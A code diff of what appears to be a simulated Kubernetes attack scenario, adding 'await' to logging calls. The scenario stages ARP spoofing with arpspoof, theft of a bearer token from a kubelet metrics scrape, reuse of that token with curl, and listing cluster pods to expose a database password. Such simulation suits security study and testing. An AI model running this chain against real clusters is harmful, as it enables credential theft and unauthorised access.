@@ -54,7 +54,7 @@ export const scraperToken: Scenario = {
       forged,
       tampered,
     });
-    stage.did('attacker', `arpspoof -t ${workstation.name} ${genuine.address}`, position.describe());
+    await stage.did('attacker', `arpspoof -t ${workstation.name} ${genuine.address}`, position.describe());
 
     await using scraper = new KubeClient({
       from: workstation,
@@ -67,8 +67,8 @@ export const scraperToken: Scenario = {
     await attack.withdraw();
     const token = attack.loot.credentials[0]?.value;
     const serve = 'answers the scrape of https://node-1:10250/metrics/resource';
-    if (token === undefined) stage.refused('attacker', serve, scraped.refusal?.text ?? scraped.words);
-    else stage.did('attacker', serve, `Authorization: Bearer ${token.slice(0, 24)}…`);
+    if (token === undefined) await stage.refused('attacker', serve, scraped.refusal?.text ?? scraped.words);
+    else await stage.did('attacker', serve, `Authorization: Bearer ${token.slice(0, 24)}…`);
 
     const stolen = token === undefined ? {} : { token };
     const shown = token === undefined ? '' : ' -H "Authorization: Bearer …"';
@@ -77,8 +77,8 @@ export const scraperToken: Scenario = {
     const used = metrics.body.split('\n').find((line) => /^pod_memory_working_set_bytes.*"db"/.test(line));
     const measure = `curl -k${shown} https://node-2:10250/metrics/resource`;
     if (used !== undefined)
-      stage.gained('attacker', measure, used, 'the metrics of a kubelet it never impersonated');
-    else stage.refused('attacker', measure, metrics.words);
+      await stage.gained('attacker', measure, used, 'the metrics of a kubelet it never impersonated');
+    else await stage.refused('attacker', measure, metrics.words);
 
     await using thief = clientOn(attackerHost, cluster, stolen);
     const pods = await thief.request('GET', '/api/v1/pods', { signal });
@@ -86,12 +86,12 @@ export const scraperToken: Scenario = {
     if (pods.body.includes(password)) {
       const { items } = pods.json() as { items: readonly unknown[] };
       const saw = `${items.length} pods; default/db has PASSWORD=${password}`;
-      stage.gained(
+      await stage.gained(
         'attacker',
         list,
         saw,
         `from the apiserver, as ${namespace}/${name}, every pod of the cluster`,
       );
-    } else stage.refused('attacker', list, pods.words);
+    } else await stage.refused('attacker', list, pods.words);
   },
 };
